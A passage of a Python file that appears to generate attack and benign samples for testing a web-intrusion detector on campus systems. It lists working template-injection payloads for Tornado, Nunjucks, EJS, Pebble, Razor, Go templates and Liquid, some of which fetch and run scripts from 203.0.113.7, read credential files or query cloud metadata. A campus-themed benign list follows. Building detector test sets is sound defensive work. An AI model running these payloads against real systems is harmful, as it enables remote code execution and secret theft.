    "{% import subprocess %}{{ subprocess.check_output('id', shell=True) }}",
    "{{ handler.settings['cookie_secret'] }}",
    "{{ handler.application.settings }}",
    "{% raw __import__('os').system('curl -s http://203.0.113.7/t.sh | sh') %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('os').system('touch /tmp/nb') %}",
    "{{ handler.request.headers }}{{ handler.get_secure_cookie('jupyterhub-session-id') }}",
]

# Nunjucks. Target: Node course-site generators and LTI tools rendering instructor text with nunjucks.
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.env\")() }}",
    "{{ joiner.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")() }}",
    "{% set x = range.constructor(\"return process\")() %}"
    "{{ x.mainModule.require('child_process').execSync('whoami') }}",
    "{{ [].constructor.constructor(\"return this.process.mainModule.require('child_process')"
    ".execSync('curl 203.0.113.7/n|sh')\")() }}",
    "{{ ''.constructor.constructor(\"return global.process.mainModule.constructor._load('child_process')"
    ".execSync('id')\")() }}",
    "{% for x in range.constructor(\"return process.mainModule.require('fs').readdirSync('/app')\")() %}{{x}}"
    "{% endfor %}",
    "{{ cycler.constructor(\"return process.kill(process.pid)\")() }}",
    "{{ range.constructor(\"return process.env\")() | dump }}",
]

# EJS. Target: Express LTI tools that render with res.render(view, req.query) or user-stored EJS (CVE-2022-29078).
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% process.mainModule.require('child_process').exec('curl 203.0.113.7/e|sh') %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
     *KVQ),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process.mainModule"
     ".constructor._load('child_process').execSync('whoami');", *KVQ),
    ("{\"settings\":{\"view options\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process')"
     ".execSync('touch /tmp/ejs');x\"}}}", *JB),
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<%= global.process.env.LTI_KEY %>",
]

# Pebble. Target: Java (Spring) conference and thesis-submission tools that render email templates with Pebble.
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd)"
    ".inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes])"
    ".toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ \"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"whoami\") }}",
    "{% set r = (1).TYPE.forName('java.lang.Runtime') %}{{ r.getMethod('exec',''.class).invoke(r.getMethod("
    "'getRuntime').invoke(null),'curl 203.0.113.7/pb|sh') }}",
    "{{ beans.get(\"environment\").getProperty(\"spring.datasource.password\") }}",
    "{{ request.getServletContext().getClassLoader() }}",
    "{% for k in beans.keySet() %}{{ k }} {% endfor %}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{{ ''.class.forName('java.lang.ProcessBuilder').getConstructors()[0].newInstance(['id']).start() }}",
]

# Razor. Target: ASP.NET campus portals: Umbraco (Razor macros/partials an editor can change), DNN (DotNetNuke)
# school sites, RazorEngine-rendered admission emails.
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\", \"-c iwr http://203.0.113.7/u.ps1 | iex\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\")",
    "@Html.Raw(System.IO.File.ReadAllText(Server.MapPath(\"~/web.config\")))",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = "
    "\"/c net user\"; p.Start(); }",
    "@System.Environment.GetEnvironmentVariables()",
    "@(System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\\\\App_Data\"))",
    "@{ new System.Net.WebClient().DownloadFile(\"http://203.0.113.7/s.aspx\", Server.MapPath(\"~/s.aspx\")); }",
    "@System.Configuration.ConfigurationManager.ConnectionStrings[\"umbracoDbDSN\"]",
]

# Go templates. Target: Hugo (research-group sites built from submitted content), Helm/Sprig charts on the
# research Kubernetes, Go services rendering text/template with a rich context.
GO_TEMPLATES: list[Entry] = [
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/etc/passwd\" }}",
    "{{ (resources.GetRemote \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\").Content }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ getenv \"HUGO_PARAMS_APIKEY\" }}",
    "{{ printf \"%#v\" . }}",
    "{{ define \"T1\" }}<script>alert(document.domain)</script>{{ end }}{{ template \"T1\" }}",
    "{{ .Request.Header }}{{ .Config.SecretKey }}",
    "{{ range $i, $e := until 999999999 }}{{ range until 999999999 }}x{{ end }}{{ end }}",
]

# Liquid. Target: Jekyll (lab and course sites on the campus Pages service) and Liquid-rendered email templates in
# the alumni CRM: file reads through include, secrets in site data, render-time DoS.
LIQUID: list[Entry] = [
    "{% include_relative ../../../../etc/passwd %}",
    "{% include ../_config.yml %}",
    "{{ site.data | jsonify }}",
    "{{ site | inspect }}",
    "{% for i in (1..100000000) %}{% for j in (1..100000000) %}x{% endfor %}{% endfor %}",
    "{% capture s %}{% include_relative ../.env %}{% endcapture %}{{ s }}",
    "{{ page | inspect }}{{ site.github | jsonify }}",
    "{% assign x = 'a' %}{% for i in (1..30) %}{% assign x = x | append: x %}{% endfor %}{{ x }}",
    "{% render '../../../../../etc/passwd' %}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY_INJECTION),
    ("generic", "perl-injection", PERL_INJECTION),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASS_NAMES),
    ("java", "java-process-spawn", JAVA_PROCESS),
    ("java", "java-serialization", JAVA_SERIALIZATION),
    ("java", "java-deserialization-gadget", JAVA_GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION_LANGUAGE),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# fixed `name=value` entries of these sub-families are whole parameter pairs, sent unquoted
RAW_KV_SUBS = {"javascript-prototype-pollution", "class-loading", "expression-language", "velocity", "ejs",
               "java-deserialization-gadget"}

# the parameter names each targeted system uses (a sub-family's own list, else its category's)
NAMES: dict[str, list[str]] = {
    "nodejs-injection": ["answer", "expression", "formula", "code", "response"],
    "nodejs-dos": ["q", "pattern", "search", "answer", "filter"],
    "ssrf-cloud-metadata": ["url", "feedurl", "config_url", "imageurl", "target_link_uri", "callback_url",
                            "jwks_url"],
    "ssrf-internal-ip": ["url", "returnurl", "source", "harvest_url", "link", "feedurl"],
    "javascript-prototype-pollution": ["settings", "prefs", "custom"],
    "ruby-injection": ["q", "sort", "search_field", "format", "thumbnail_url", "formula"],
    "perl-injection": ["file", "configdir", "idx", "q", "format", "template"],
    "php-data-scheme": ["file", "page", "include", "lang", "theme", "template"],
    "java-class-names": ["script", "code", "expression", "condition"],
    "java-process-spawn": ["script", "cmd", "code"],
    "java-serialization": ["javax.faces.ViewState", "viewstate", "object", "session_data"],
    "java-deserialization-gadget": ["javax.faces.ViewState", "data", "object"],
    "log4shell": ["j_username", "username", "eppn", "q", "search", "returnUrl"],
    "expression-language": ["expression", "filter", "redirect", "name", "q"],
    "polymorphic-deserialization": ["data", "payload"],
    "class-loading": ["expression", "script"],
    "jsp-upload": ["file", "content", "body"],
    "ssti": ["template", "message", "body", "subject", "name", "feedback", "signature", "description"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-raw-body", "rs-param-name")
    unique = True
    documents = True
    fit_fixed = True
    path_forbids = "/"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES.get(sub) or NAMES[category]
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub == "java-serialization" and payload.startswith("\xac\xed")

    def upload_body(self, filename: str) -> str:
        return JSP_SHELL if ".jsp" in filename.lower() else self.upload


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by lecturers, researchers, students and campus IT (Slack messages and
# bios, directory searches, links to course pages, papers and docs, admin-panel searches, profiles, uploaded file
# names, ordinary browser and client headers)
CHAT = [
    # teaching: courses, labs, quizzes and grading
    "reminder: CS101 lab 3 is due Friday 17:00, submit the .py file on Moodle, not a zip",
    "has anyone else seen the gradebook round 89.5 down to 89 after the Moodle 4.3 upgrade?",
    "for the intro JS quiz I'm asking what `require('fs').readFileSync(path)` returns without an encoding. "
    "answer: a Buffer",
    "Q7 on the midterm: what's wrong with `eval(userInput)` in a Node app? most of them wrote 'slow', only a few "
    "said injection",
    "the grader timed out on 12 submissions because of a while(true) loop with no break, rerunning with a 10 s limit",
    "our regex assignment asks why (a+)+$ is so slow on 'aaaaaaaaaaaaaaaaaaaaaaaa!' - great discussion today",
    "for the node class: `const port = process.env.PORT || 3000;` is the usual Express pattern, mention it in lab 2",
    "Rails course week 6: string interpolation, \"Hello #{name}\", and why you never build SQL strings that way",
    "ERB tip for the Ruby students: `<%= %>` prints the value, `<% %>` just runs the code",
    "Ruby question from office hours: YAML.load complains about a Symbol -> use YAML.safe_load(str, "
    "permitted_classes: [Symbol])",
    "Perl one-liner for counting FASTA records: perl -ne 'print if /^>/' seqs.fa | wc -l",
    "in the Java lecture tomorrow we cover ProcessBuilder vs Runtime.exec, bring laptops with JDK 17",
    "the Spring Boot course project must read config with @Value(\"${app.title}\"), no hard-coded strings",
    "log4j2.xml in the template project sets the root level to INFO; switch to DEBUG if you need more output",
    "students keep uploading .java files instead of the .jar, accepting both this week",
    "the quiz question about SQL: SELECT name FROM students WHERE grade > 90 ORDER BY name; half forgot the ORDER BY",
    "grading rubric for the essay: 4 = exceeds, 3 = meets, 2 = approaching, 1 = not yet; comments required below 3",
    "new TA onboarding: gradebook access comes with the 'Non-editing teacher' role in Moodle",
    "the plagiarism report for group 4 came back at 38%, mostly the reference list, I'll check it by hand",
    "office hours moved to Thursday 14:00 in room B-214",
    "lecture notes on prototype pollution are up (week 9), with the lodash merge example and the fix",
    "security seminar slides: Java deserialization, ysoserial and why ObjectInputStream on untrusted input is a "
    "bad idea",
    "reading group Thursday: 'Server-Side Template Injection: RCE for the modern web app' (Kettle, 2015)",
    "for the networking lab: 169.254.x.x is link-local, you get one when DHCP fails",
    "cloud module: students query the EC2 instance metadata service from inside their sandbox account this week, "
    "so expect it in the CloudTrail logs",
    "data: URIs in the HTML assignment are fine for small icons, keep them under 10 KB",
    "file:///C:/Users/... paths in your report won't work on my machine, upload the images instead",
    "gopher was a fun history-of-the-internet lecture, they loved the Minnesota story",
    # template engines in student projects and department sites
    "web dev students: in Jinja2 {{ user.name }} is autoescaped, {{ user.bio|safe }} isn't, so never on user input",
    "Drupal question: {{ content.field_course_code }} renders empty on the course node, a cache clear didn't help",
    "Twig on the department site: {% if node.field_deadline.value %} shows the deadline banner",
    "freemarker in the Liferay portal: ${themeDisplay.getPortalURL()} gives the internal host behind the proxy",
    "the Sakai skin's Velocity template uses $pageTitle, we can change the footer text there",
    "Thymeleaf question from a student: th:text=\"${student.name}\" works but th:href=\"@{/course/{id}(id=${c.id})}\" "
    "gives 404",
    "Smarty is still in the OJS theme, {translate key=\"common.submit\"} is how the button labels get translated",
    "OJS 3.4 upgrade broke our custom email template, {$submissionTitle} comes out empty",
    "anyone got Handlebars partials working in the course newsletter tool? {{> footer}} renders nothing",
    "pug vs handlebars for the capstone? pug if they like indentation, handlebars if they want plain HTML",
    "Mako is what Open edX uses for the legacy pages, the newer MFEs are React",
    "nunjucks: how do I pass a variable into {% include 'footer.njk' %}?",
    "EJS in week 8: <%= title %> escapes, <%- body %> does not",
    "Razor demo: @Model.Title renders the course title, @Html.Raw only for HTML we wrote ourselves",
    "Go templates assignment: {{ .Name }} and {{ range .Courses }}...{{ end }}",
    "Liquid loop on the lab site: {% for post in site.posts %} ... {% endfor %}, then bundle exec jekyll serve",
    "anyone know why {{ site.baseurl }} breaks the links on the staging copy of the lab's Jekyll site?",
    # research computing, notebooks, HPC
    "the slurm job keeps dying with `oom-kill event`, try --mem=32G and --cpus-per-task=8 in the sbatch script",
    "can someone add me to #hpc-users? need help with array jobs (--array=1-100%10)",
    "cluster maintenance: slurmctld restarts at 06:00, queued jobs stay queued",
    "the login node is for editing and submitting only, please don't run python there",
    "Open OnDemand now has RStudio Server and Jupyter apps, request 4 cores max for interactive sessions",
    "JupyterHub is down for maintenance Saturday 08:00-12:00, save your notebooks before that",
    "if your notebook kernel hangs: Kernel > Restart & Clear Output, then run the cells from the top",
    "for the stats students: df.groupby('course')['score'].mean() then plot it with seaborn",
    "LaTeX question: how do you get $\\mathbb{R}^n$ on the slides? \\usepackage{amssymb} fixed it",
    "my thesis compiles with pdflatex but not xelatex, something about fontspec and the university logo",
    "research data: put the raw CSVs in the repository, the DOI is minted after curation",
    # campus IT: LMS, library, identity
    "the Canvas LTI 1.3 setup for the proctoring tool needs their JWKS URL and initiate login URI",
    "the proctoring vendor changed their callback URL, updated the LTI tool config in Canvas",
    "Blackboard is retired end of June, all courses move to Canvas; export your course packages before then",
    "Sakai site for ECON 210 is archived, students can still read the resources",
    "EZproxy stanza for the new database is live, off-campus access works from tomorrow",
    "Koha upgrade to 23.11 done, the OPAC looks the same but facets load faster",
    "the discovery layer is down, use the Koha OPAC in the meantime",
    "DSpace 7 handle server is back, the handles and DOIs resolve again",
    "IT security: the DSpace Solr and the CAS servers were patched for Log4j in Dec 2021, nothing to do on your side",
    "the Shibboleth login loop on the library site is fixed, it was clock skew on the SP",
    "SAML metadata for the new SP is at /Shibboleth.sso/Metadata, send that to the IdP team",
    "the enrolment portal is slow this morning, PeopleSoft batch jobs run until noon",
    "the JSP pages of the old course catalogue go away in August when the new site launches",
    "Moodle's URL resource opens in a new window by default now, change it per activity if you want embed",
    # bios
    "Senior Lecturer, School of Computing. Teaching Web Security (COMP3310) and Distributed Systems. Research: "
    "template injection and deserialization in Java web stacks.",
    "Research Software Engineer, Research Computing. Slurm, JupyterHub, Open OnDemand, containers. Ask me about "
    "sbatch scripts.",
    "Library Systems Librarian: Koha, EZproxy, DSpace. Shibboleth and SAML when it breaks.",
    "PhD student in computational biology. Perl and Python pipelines, too many FASTA files.",
    "Learning Technologist: Moodle, Canvas, LTI integrations, quiz and gradebook support for staff.",
    "Teaching Assistant for CS101 and COMP2010 (Java). Office hours Tue 10-12, lab B-214.",
    "Associate Professor of Statistics. R, Stan, and Jupyter notebooks for teaching.",
    "Web team: Drupal (Twig), Jekyll lab sites, and the occasional Rails app.",
]

SEARCHES = [
    "COMP3310", "CS101 teaching assistants", "Dr. Nakamura physics", "library systems", "Koha", "EZproxy",
    "DSpace curator", "JupyterHub admin", "research computing", "HPC support", "Moodle admin", "Canvas LTI",
    "O'Connor", "García", "Müller", "d'Almeida", "mathematics department", "registrar's office",
    "course evaluation office", "student union exec", "systems biology", "runtime verification group",
    "process engineering", "template team", "data science MSc", "Java lecturer", "node.js", "ruby", "perl",
    "Shibboleth", "CAS login", "PeopleSoft team", "gradebook", "proctoring", "plagiarism panel",
    "COMP3 computing third year", "PHYS2010", "class of 2025", "prototype lab", "cloud computing module",
]

URLS = [
    "https://moodle.example.edu/course/view.php?id=4821",
    "https://moodle.example.edu/mod/quiz/view.php?id=99172",
    "https://canvas.example.edu/courses/1234/assignments/56789",
    "https://canvas.example.edu/courses/1234/gradebook",
    "https://jupyter.example.edu/hub/user-redirect/lab/tree/COMP3310/week9.ipynb",
    "https://ondemand.hpc.example.edu/pun/sys/dashboard/batch_connect/sessions",
    "https://catalogue.library.example.edu/cgi-bin/koha/opac-search.pl?q=ti:deserialization",
    "https://login.ezproxy.example.edu/login?url=https://dl.acm.org/doi/10.1145/3319535.3354211",
    "https://repository.example.edu/handle/123456789/4521",
    "https://ojs.example.edu/index.php/jcs/article/view/112",
    "https://doi.org/10.1145/3133956.3134085",
    "https://arxiv.org/abs/2303.08774",
    "https://docs.moodle.org/403/en/URL_resource",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://www.tornadoweb.org/en/stable/template.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nodejs.org/api/child_process.html",
    "https://portswigger.net/research/server-side-template-injection",
    "https://slurm.schedmd.com/rest_api.html",
    "https://www.imsglobal.org/spec/lti/v1p3",
]

PROSE = [
    "COMP3310 Web Security - week 9 template injection lab",
    "students enrolled in CHEM1020 with no submission",
    "gradebook export for term 2",
    "TA list for semester 1",
    "library systems on-call (Koha, EZproxy)",
    "JupyterHub users over quota",
    "LTI tool registrations",
    "research computing allocation requests",
    "Java Programming II lab groups",
    "Ruby on Rails elective",
    "Perl for bioinformatics workshop",
    "Node.js capstone teams",
    "proctoring exceptions list",
    "plagiarism review panel",
    "thesis submissions awaiting examiner",
    "late enrolment approvals",
    "SAML attribute release requests",
    "course evaluation results 2024",
    "exec committee of the student union",
    "process improvement working group",
    "runtime systems research group",
    "reference letter template",
    "data science MSc cohort",
    "cloud computing lab (COMP3800)",
    "class list for PHYS2010",
    "prototype lab booking",
    "serialization formats seminar",
    "expression of interest: summer research",
    "Dr. O'Connor's tutorial groups",
    "who has access to the gradebook for COMP2010?",
]

PROFILES = [
    ("Dr. Aoife Byrne", "School of Computing, Room B-214, Dublin"),
    ("Prof. Kenji Nakamura", "Department of Physics, Building 3, Sendai"),
    ("María José García", "Faculty of Education, Calle Universidad 5, Salamanca"),
    ("Liam O'Connor", "Library, Level 2 Systems Office, Galway"),
    ("Priya Raman", "Research Computing, Data Centre 1, Chennai"),
    ("Jonas Müller", "Institut für Informatik, Raum 104, Freiburg"),
    ("Fatima Zahra El Amrani", "Student Services, Main Hall, Rabat"),
    ("Dr. Samuel Okafor", "School of Public Health, Block C, Lagos"),
    ("Chloé Dubois", "Registrar's Office, 2 rue des Écoles, Lyon"),
    ("Ben Template", "Web Team, IT Services, Leeds"),
    ("Ana d'Almeida", "Centre for Teaching and Learning, Coimbra"),
    ("Tomasz Kowalski", "Faculty of Mathematics, Kraków"),
    ("Dr. Grace Process", "Chemical Engineering, Lab 4, Manchester"),
    ("Eva Runtime", "Computer Science, Office 3.12, Utrecht"),
    ("Noah Java", "Library Learning Commons, Wellington"),
    ("Hannah Ruby", "School of Music, Practice Wing, Glasgow"),
    ("Peter Perl", "Geosciences, Field Station 2, Tromsø"),
    ("Lucía Node", "Biology Teaching Labs, Valencia"),
    ("Ahmed Hassan", "Graduate School Office, Cairo"),
    ("Sophie Class", "Primary Teacher Education, Room 12, Bristol"),
]

UPLOAD_NAMES = [
    "COMP3310_lab3_submission.py", "thesis_final_v7.pdf", "week9-ssti-slides.pptx", "grading-rubric-2024.xlsx",
    "survey_responses_raw.csv", "assignment2.ipynb", "slurm_job_array.sbatch", "lecture_java_processbuilder.pdf",
    "ruby_erb_examples.zip", "perl_fasta_tools.tar.gz", "node_express_starter.zip", "climate_2023.nc",
    "poster_CCS.pdf", "ethics_approval_form.docx", "syllabus_COMP2010.docx", "reading_list.bib",
    "log4j-patch-notes.txt", "thesis_template.tex", "midterm_solutions.pdf", "headshot.jpg",
    "backup-moodle2-course-4821.mbz", "canvas_export.imscc", "lab_results (final).xlsx",
    "O'Neill_reference_letter.pdf", "jsp-to-thymeleaf-migration.md",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Zotero/6.0.37"),
    ("Referer", "https://moodle.example.edu/course/view.php?id=4821"),
    ("Referer", "https://canvas.example.edu/courses/1234/external_tools/98"),
    ("Referer", "https://catalogue.library.example.edu/cgi-bin/koha/opac-detail.pl?biblionumber=10234"),
    ("Referer", "https://scholar.google.com/scholar?q=server-side+template+injection"),
    ("Referer", "https://idp.example.edu/idp/profile/SAML2/Redirect/SSO?execution=e1s1"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7b2e4f10-3c9a-4d5e-8f61-2a0b9c4d7e13"),
    ("Accept-Language", "en-GB,en;q=0.9,ga;q=0.6"),
    ("Cookie", "session=abc123; MoodleSession=q8v2k4l1m9n3b7c5x6z0; lang=en"),
    ("Cookie", "session=abc123; _shibsession_64656661756c74=_a1b2c3d4e5f6; theme=dark"),
    ("If-Modified-Since", "Mon, 03 Jun 2024 08:15:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
